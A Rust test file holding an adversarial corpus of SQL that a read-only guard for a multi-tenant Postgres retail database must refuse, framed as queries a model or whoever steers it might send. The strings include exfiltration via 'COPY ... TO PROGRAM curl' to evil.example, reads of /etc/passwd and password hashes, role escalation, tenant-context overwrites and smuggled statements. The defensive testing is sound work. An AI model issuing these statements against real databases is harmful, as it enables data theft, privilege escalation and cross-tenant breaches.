//! The adversarial corpus: SQL a model (or whoever steers it) might send to write, lock, stall, change the
//! tenant context or read outside the retail data. Every case must be refused, with the expected reason, by
//! the built-in policy and by the catalog policy alike. The legitimate counterpart is in `legit_tests.rs`.

use super::legit_tests::catalog_policy;
use super::{FunctionPolicy, GuardError, ReadOnlySql};

/// The variant name of a refusal, so the corpus can say which rule must fire.
pub(super) fn variant(e: &GuardError) -> &'static str {
    match e {
        GuardError::Empty => "Empty",
        GuardError::TooLong { .. } => "TooLong",
        GuardError::Syntax { .. } => "Syntax",
        GuardError::TooComplex => "TooComplex",
        GuardError::Unparseable { .. } => "Unparseable",
        GuardError::MultipleStatements { .. } => "MultipleStatements",
        GuardError::NotARead { .. } => "NotARead",
        GuardError::DataModifying { .. } => "DataModifying",
        GuardError::Locking { .. } => "Locking",
        GuardError::SelectInto { .. } => "SelectInto",
        GuardError::ExplainAnalyze => "ExplainAnalyze",
        GuardError::ForbiddenFunction { .. } => "ForbiddenFunction",
        GuardError::ForbiddenRelation { .. } => "ForbiddenRelation",
        GuardError::ForbiddenSchema { .. } => "ForbiddenSchema",
        GuardError::TableSample { .. } => "TableSample",
        GuardError::Unsupported { .. } => "Unsupported",
    }
}

/// (SQL, the refusal expected, why it must be refused).
pub(super) const ATTACKS: &[(&str, &str, &str)] = &[
    // --- more than one statement
    ("SELECT 1; DROP TABLE retail.orders", "MultipleStatements", "a second statement riding on a read"),
    ("SELECT 1; SELECT 2", "MultipleStatements", "even two reads: the simple protocol would run both"),
    ("BEGIN; SELECT 1; COMMIT", "MultipleStatements", "transaction control around a read"),
    ("SELECT 1;\n/* x */ SET ROLE postgres;", "MultipleStatements", "a SET hidden after a comment"),
    // --- statements that are not reads
    ("COMMIT", "NotARead", "ends the read-only tenant transaction; later SQL would run outside it"),
    ("ROLLBACK", "NotARead", "ends the tenant transaction"),
    ("BEGIN", "NotARead", "transaction control"),
    ("START TRANSACTION READ WRITE", "NotARead", "asks for a writable transaction"),
    ("SAVEPOINT s", "NotARead", "transaction control"),
    ("DO $$ BEGIN PERFORM set_config('zava.tenant', 'x', true); END $$", "NotARead", "anonymous PL/pgSQL runs any SQL"),
    ("COPY retail.orders TO PROGRAM 'curl -d @- https://evil.example'", "NotARead", "runs a shell command"),
    ("COPY (SELECT 1) TO '/tmp/x'", "NotARead", "writes a server file"),
    ("SET ROLE postgres", "NotARead", "switches role"),
    ("RESET ROLE", "NotARead", "switches role back to the session user"),
    ("SET LOCAL zava.tenant = 'v1;*;0;0;0'", "NotARead", "overwrites the signed tenant context"),
    ("SET SESSION AUTHORIZATION postgres", "NotARead", "switches the session user"),
    ("RESET ALL", "NotARead", "drops the tenant context"),
    ("DISCARD ALL", "NotARead", "drops session state"),
    ("SHOW zava.tenant", "NotARead", "utility statement; current_setting() is the read"),
    ("CALL retail.p()", "NotARead", "procedures may commit and write"),
    ("PREPARE q AS SELECT 1", "NotARead", "leaves a prepared statement on a pooled connection"),
    ("EXECUTE q", "NotARead", "runs SQL the guard never saw"),
    ("DEALLOCATE ALL", "NotARead", "session state"),
    ("LISTEN ch", "NotARead", "session state on a pooled connection"),
    ("NOTIFY ch, 'x'", "NotARead", "sends to other sessions"),
    ("LOCK TABLE retail.orders IN ACCESS EXCLUSIVE MODE", "NotARead", "blocks every other tenant"),
    ("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM retail.orders", "NotARead", "a cursor outlives the guard"),
    ("FETCH ALL FROM c", "NotARead", "reads a cursor the guard never saw"),
    ("CLOSE c", "NotARead", "cursor control"),
    ("VACUUM retail.orders", "NotARead", "maintenance"),
    ("ANALYZE retail.orders", "NotARead", "writes statistics"),
    ("CREATE TEMP TABLE t AS SELECT * FROM retail.orders", "NotARead", "creates an object"),
    ("CREATE TABLE t (x int)", "NotARead", "creates an object"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "NotARead", "defines code"),
    ("ALTER ROLE zava_query BYPASSRLS", "NotARead", "privilege escalation"),
    ("GRANT SELECT ON zava_private.context_key TO PUBLIC", "NotARead", "privilege change"),
    ("DROP TABLE retail.orders", "NotARead", "DDL"),
    ("TRUNCATE retail.orders", "NotARead", "deletes every tenant's rows"),
    ("LOAD 'evil.so'", "NotARead", "loads a shared library"),
    ("CHECKPOINT", "NotARead", "server administration"),
    ("ALTER SYSTEM SET log_statement = 'none'", "NotARead", "server configuration"),
    ("CREATE EXTENSION dblink", "NotARead", "installs code"),
    ("EXPLAIN CREATE TABLE t AS SELECT 1", "NotARead", "EXPLAIN of something that is not a SELECT"),
    ("EXPLAIN EXECUTE q", "NotARead", "EXPLAIN of a prepared statement the guard never saw"),
    // --- data-modifying statements, at the top or anywhere in the tree
    ("INSERT INTO retail.categories (category_name) VALUES ('x')", "DataModifying", "a write"),
    ("UPDATE retail.products SET base_price = 0", "DataModifying", "a write"),
    ("DELETE FROM retail.orders", "DataModifying", "a write"),
    (
        "MERGE INTO retail.inventory i USING retail.stores s ON i.store_id = s.store_id WHEN MATCHED THEN DELETE",
        "DataModifying",
        "a write",
    ),
    (
        "WITH d AS (DELETE FROM retail.orders RETURNING *) SELECT count(*) FROM d",
        "DataModifying",
        "writable CTE under a SELECT",
    ),
    ("WITH x AS (UPDATE retail.products SET cost = 0 RETURNING 1) SELECT 1", "DataModifying", "writable CTE"),
    (
        "SELECT * FROM (WITH i AS (INSERT INTO retail.categories (category_name) VALUES ('x') RETURNING *) SELECT * FROM i) s",
        "DataModifying",
        "writable CTE in a subquery",
    ),
    ("EXPLAIN ANALYZE DELETE FROM retail.orders", "DataModifying", "EXPLAIN ANALYZE executes the DELETE"),
    ("EXPLAIN DELETE FROM retail.orders", "DataModifying", "EXPLAIN of a write: only reads may be explained"),
    (
        "EXPLAIN WITH i AS (INSERT INTO retail.categories (category_name) VALUES ('x') RETURNING *) SELECT * FROM i",
        "DataModifying",
        "INSERT … RETURNING in a CTE of an EXPLAIN",
    ),
    // --- EXPLAIN ANALYZE, in every spelling
    ("EXPLAIN ANALYZE SELECT 1", "ExplainAnalyze", "executes the statement"),
    ("EXPLAIN (ANALYZE) SELECT 1", "ExplainAnalyze", "option-list spelling"),
    ("EXPLAIN (ANALYZE true) SELECT 1", "ExplainAnalyze", "explicit true"),
    ("EXPLAIN (FORMAT JSON, ANALYZE on) SELECT 1", "ExplainAnalyze", "on, after another option"),
    ("EXPLAIN (ANALYZE 1) SELECT 1", "ExplainAnalyze", "numeric true"),
    ("EXPLAIN (\"analyze\") SELECT 1", "ExplainAnalyze", "quoted option name"),
    ("EXPLAIN (analyse) SELECT 1", "ExplainAnalyze", "British spelling"),
    ("EXPLAIN ANALYZE VERBOSE SELECT 1", "ExplainAnalyze", "legacy syntax with VERBOSE"),
    ("EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1", "ExplainAnalyze", "a later option turns it back on"),
    // --- row locks and SELECT INTO
    ("SELECT * FROM retail.orders FOR UPDATE", "Locking", "row locks block other tenants' writers"),
    ("SELECT * FROM retail.orders FOR SHARE NOWAIT", "Locking", "row lock"),
    ("SELECT * FROM (SELECT * FROM retail.orders FOR NO KEY UPDATE) s", "Locking", "row lock in a subquery"),
    ("WITH x AS (SELECT * FROM retail.stores FOR KEY SHARE) SELECT * FROM x", "Locking", "row lock in a CTE"),
    ("SELECT 1 INTO x", "SelectInto", "creates a table"),
    ("SELECT * INTO TEMP t FROM retail.orders", "SelectInto", "creates a temporary table"),
    // --- functions, wherever they are called
    ("SELECT set_config('zava.tenant', 'x', true)", "ForbiddenFunction", "overwrites the tenant context"),
    ("SELECT * FROM set_config('zava.tenant', 'x', true)", "ForbiddenFunction", "crystaldba #178: a FROM-clause call"),
    ("SELECT * FROM pg_read_file('/etc/passwd')", "ForbiddenFunction", "crystaldba #178's own example"),
    ("SELECT * FROM ROWS FROM (pg_sleep(10))", "ForbiddenFunction", "ROWS FROM"),
    (
        "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) AS t(a, b)",
        "ForbiddenFunction",
        "second function of ROWS FROM",
    ),
    ("SELECT pg_catalog.\"set_config\"('role', 'postgres', false)", "ForbiddenFunction", "qualified and quoted"),
    ("SELECT SET_CONFIG('zava.tenant', 'x', true)", "ForbiddenFunction", "upper case"),
    ("SELECT \"pg_catalog\".pg_sleep(1)", "ForbiddenFunction", "quoted schema"),
    ("SELECT U&\"\\0070g_sleep\"(1)", "ForbiddenFunction", "Unicode-escaped identifier"),
    (
        "SELECT 1 WHERE 1 IN (SELECT 1 FROM (SELECT set_config('zava.tenant', 'x', true)) s)",
        "ForbiddenFunction",
        "nested subqueries",
    ),
    (
        "SELECT * FROM retail.stores s, LATERAL (SELECT set_config('zava.tenant', s.store_name, true)) x",
        "ForbiddenFunction",
        "LATERAL",
    ),
    (
        "WITH c AS MATERIALIZED (SELECT set_config('zava.tenant', 'x', true) AS v) SELECT * FROM c, retail.orders",
        "ForbiddenFunction",
        "materialized CTE runs first",
    ),
    (
        "SELECT set_config(setting_name => 'zava.tenant', new_value => 'x', is_local => true)",
        "ForbiddenFunction",
        "named arguments",
    ),
    ("SELECT COALESCE(NULL, set_config('zava.tenant', 'x', true))", "ForbiddenFunction", "inside COALESCE"),
    (
        "SELECT * FROM json_to_record(set_config('a', 'b', true)::json) AS t(a int)",
        "ForbiddenFunction",
        "argument of a FROM function",
    ),
    (
        "SELECT query_to_xml('SELECT * FROM zava_private.context_key', true, false, '')",
        "ForbiddenFunction",
        "runs SQL text",
    ),
    ("SELECT cursor_to_xml('c', 1, false, false, '')", "ForbiddenFunction", "reads a cursor"),
    ("SELECT table_to_xml('retail.orders', true, false, '')", "ForbiddenFunction", "runs its own scan"),
    (
        "SELECT ts_stat('SELECT to_tsvector(product_description) FROM retail.products')",
        "ForbiddenFunction",
        "runs SQL text",
    ),
    ("SELECT dblink('host=evil.example', 'SELECT 1')", "ForbiddenFunction", "another server"),
    ("SELECT nextval('retail.orders_order_id_seq')", "ForbiddenFunction", "advances a sequence"),
    ("SELECT setval('retail.orders_order_id_seq', 1)", "ForbiddenFunction", "sets a sequence"),
    ("SELECT lastval()", "ForbiddenFunction", "session sequence state"),
    ("SELECT lo_import('/etc/passwd')", "ForbiddenFunction", "reads a server file into a large object"),
    ("SELECT pg_ls_dir('.')", "ForbiddenFunction", "lists the data directory"),
    ("SELECT pg_stat_file('postgresql.conf')", "ForbiddenFunction", "inspects server files"),
    ("SELECT pg_sleep(10)", "ForbiddenFunction", "stalls a connection"),
    ("SELECT pg_sleep_for('1 hour')", "ForbiddenFunction", "stalls a connection"),
    ("SELECT pg_advisory_lock(1)", "ForbiddenFunction", "session lock outlives the call"),
    ("SELECT pg_try_advisory_xact_lock(1)", "ForbiddenFunction", "lock"),
    ("SELECT pg_terminate_backend(pg_backend_pid())", "ForbiddenFunction", "kills sessions"),
    ("SELECT pg_cancel_backend(1)", "ForbiddenFunction", "cancels other sessions"),
    ("SELECT pg_reload_conf()", "ForbiddenFunction", "server administration"),
    ("SELECT pg_notify('ch', 'x')", "ForbiddenFunction", "signals other sessions"),
    ("SELECT txid_current()", "ForbiddenFunction", "assigns a transaction id"),
    ("SELECT pg_current_xact_id()", "ForbiddenFunction", "assigns a transaction id"),
    ("SELECT pg_export_snapshot()", "ForbiddenFunction", "snapshot export"),
    ("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "ForbiddenFunction", "replication"),
    ("SELECT pg_create_restore_point('x')", "ForbiddenFunction", "WAL"),
    ("SELECT pg_stat_reset()", "ForbiddenFunction", "resets statistics"),
    ("SELECT * FROM pg_stat_get_activity(NULL)", "ForbiddenFunction", "other sessions' queries"),
    ("SELECT CASE WHEN true THEN pg_sleep(1) END", "ForbiddenFunction", "inside CASE"),
    ("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM retail.orders", "ForbiddenFunction", "inside FILTER"),
    ("SELECT * FROM retail.orders ORDER BY pg_sleep(0.1)", "ForbiddenFunction", "inside ORDER BY"),
    ("SELECT 1 FROM retail.orders GROUP BY 1 HAVING pg_sleep(1) IS NULL", "ForbiddenFunction", "inside HAVING"),
    (
        "SELECT sum(order_id) OVER (PARTITION BY pg_sleep(1)::text) FROM retail.orders",
        "ForbiddenFunction",
        "inside a window",
    ),
    ("SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(1))", "ForbiddenFunction", "inside LIMIT"),
    ("VALUES (pg_sleep(1))", "ForbiddenFunction", "inside VALUES"),
    ("SELECT DISTINCT ON (pg_sleep(1)) 1", "ForbiddenFunction", "inside DISTINCT ON"),
    (
        "SELECT 1 FROM retail.stores a JOIN retail.stores b ON pg_sleep(1) IS NULL",
        "ForbiddenFunction",
        "inside JOIN ON",
    ),
    (
        "SELECT * FROM retail.order_items TABLESAMPLE SYSTEM (pg_sleep(1)::int)",
        "ForbiddenFunction",
        "TABLESAMPLE argument",
    ),
    (
        "SELECT * FROM XMLTABLE('/a' PASSING query_to_xml('select 1', true, false, '') COLUMNS x int)",
        "ForbiddenFunction",
        "inside XMLTABLE",
    ),
    (
        "SELECT * FROM JSON_TABLE(set_config('a', 'b', true)::jsonb, '$' COLUMNS (x int PATH '$'))",
        "ForbiddenFunction",
        "inside JSON_TABLE",
    ),
    ("EXPLAIN SELECT set_config('zava.tenant', 'x', true)", "ForbiddenFunction", "inside an EXPLAIN target"),
    (
        "SELECT string_agg(store_name, ',' ORDER BY set_config('a', store_name, true)) FROM retail.stores",
        "ForbiddenFunction",
        "aggregate ORDER BY",
    ),
    (
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)::text::float)",
        "ForbiddenFunction",
        "WITHIN GROUP",
    ),
    ("SELECT 1 FROM retail.stores GROUP BY CUBE (set_config('a', 'b', true))", "ForbiddenFunction", "GROUP BY CUBE"),
    (
        "SELECT rank() OVER w FROM retail.stores WINDOW w AS (ORDER BY pg_sleep(1))",
        "ForbiddenFunction",
        "WINDOW clause",
    ),
    (
        "SELECT * FROM retail.stores FETCH FIRST (SELECT 1 FROM set_config('a', 'b', true)) ROWS ONLY",
        "ForbiddenFunction",
        "FETCH FIRST",
    ),
    (
        "SELECT * FROM retail.stores TABLESAMPLE BERNOULLI (1) REPEATABLE (pg_sleep(1)::int)",
        "ForbiddenFunction",
        "REPEATABLE seed",
    ),
    ("SELECT ARRAY(SELECT set_config('a', 'b', true)), ROW(1)", "ForbiddenFunction", "ARRAY subquery"),
    ("SELECT XMLELEMENT(NAME x, set_config('a', 'b', true))", "ForbiddenFunction", "inside XMLELEMENT"),
    ("SELECT JSON_OBJECT('k': set_config('a', 'b', true))", "ForbiddenFunction", "inside JSON_OBJECT"),
    ("SELECT CAST(set_config('a', 'b', true) AS int)", "ForbiddenFunction", "inside CAST"),
    ("SELECT zava_private.tenant_store_ids()", "ForbiddenFunction", "internal schema"),
    ("SELECT zava_crypto.hmac('a', 'b', 'sha256')", "ForbiddenFunction", "internal schema"),
    ("SELECT elsewhere.f()", "ForbiddenFunction", "functions outside pg_catalog, public and retail"),
    // --- relations and schemas
    ("SELECT * FROM zava_private.context_key", "ForbiddenRelation", "the HMAC key of the tenant context"),
    ("SELECT * FROM \"zava_private\".\"context_key\"", "ForbiddenRelation", "quoted"),
    ("TABLE zava_private.context_key", "ForbiddenRelation", "TABLE form"),
    ("SELECT * FROM context_key", "ForbiddenRelation", "unqualified, in case of a search_path"),
    ("SELECT (SELECT key FROM zava_private.context_key)", "ForbiddenRelation", "in a scalar subquery"),
    ("WITH k AS (SELECT * FROM zava_private.context_key) SELECT * FROM k", "ForbiddenRelation", "in a CTE"),
    ("SELECT * FROM retail.orders o JOIN zava_private.dataset d ON true", "ForbiddenRelation", "in a JOIN"),
    ("SELECT * FROM zava_private.context_key TABLESAMPLE SYSTEM (100)", "ForbiddenRelation", "under TABLESAMPLE"),
    ("EXPLAIN SELECT * FROM zava_private.context_key", "ForbiddenRelation", "in an EXPLAIN target"),
    ("SELECT rolpassword FROM pg_catalog.pg_authid", "ForbiddenRelation", "password hashes"),
    ("SELECT passwd FROM pg_shadow", "ForbiddenRelation", "password hashes"),
    ("SELECT query FROM pg_stat_activity", "ForbiddenRelation", "other sessions' SQL and contexts"),
    ("SELECT n_live_tup FROM pg_stat_user_tables", "ForbiddenRelation", "row counts across tenants"),
    ("SELECT * FROM pg_statistic", "ForbiddenRelation", "sample values of every tenant"),
    ("SELECT * FROM pg_locks", "ForbiddenRelation", "other sessions"),
    ("SELECT * FROM pg_hba_file_rules", "ForbiddenRelation", "server configuration files"),
    ("SELECT zava_private.context_key.key FROM retail.stores", "ForbiddenSchema", "schema-qualified column"),
    ("SELECT NULL::zava_private.context_key", "ForbiddenSchema", "type from the internal schema"),
    ("SELECT 1 OPERATOR(zava_private.=) 1", "ForbiddenSchema", "operator from the internal schema"),
    ("SELECT * FROM retail.orders TABLESAMPLE system_time (1000)", "TableSample", "extension sampler"),
    ("SELECT * FROM retail.orders TABLESAMPLE zava_private.sampler (1)", "TableSample", "a sampler is a function"),
    ("SELECT merge_action()", "Unsupported", "a MERGE-only node: kinds a read never contains fail closed"),
    // --- text that is not one valid statement
    ("", "Empty", "nothing to run"),
    ("  \n\t ", "Empty", "whitespace only"),
    ("-- just a comment", "Empty", "comment only"),
    (";", "Empty", "an empty statement"),
    ("SELECT 1\0; DROP TABLE x", "Syntax", "NUL byte: C strings would end early"),
    ("SELEC 1", "Syntax", "typo"),
    ("SELECT 'unterminated", "Syntax", "unterminated literal"),
    ("SELECT 1 +", "Syntax", "incomplete expression"),
];

fn check_corpus(policy: &FunctionPolicy, policy_name: &str) {
    let mut failures = Vec::new();
    for (sql, expected, why) in ATTACKS {
        match ReadOnlySql::parse(sql, policy) {
            Ok(_) => failures.push(format!("ACCEPTED ({why}): {sql}")),
            Err(e) if variant(&e) != *expected => {
                failures.push(format!("{} instead of {expected} ({why}): {sql}\n    {e}", variant(&e)))
            }
            Err(_) => {}
        }
    }
    assert!(failures.is_empty(), "{policy_name} policy:\n{}", failures.join("\n"));
}

#[test]
fn every_attack_is_refused_for_the_right_reason() {
    assert!(ATTACKS.len() >= 60, "the corpus must stay large");
    check_corpus(&FunctionPolicy::builtin(), "builtin");
    check_corpus(&catalog_policy(), "catalog");
}

#[test]
fn no_attack_passes_with_a_trailing_semicolon() {
    for (sql, _, why) in ATTACKS.iter().filter(|(_, expected, _)| *expected != "Empty") {
        let terminated = format!("{sql};");
        assert!(ReadOnlySql::parse(&terminated, &FunctionPolicy::builtin()).is_err(), "{why}: {terminated}");
    }
}
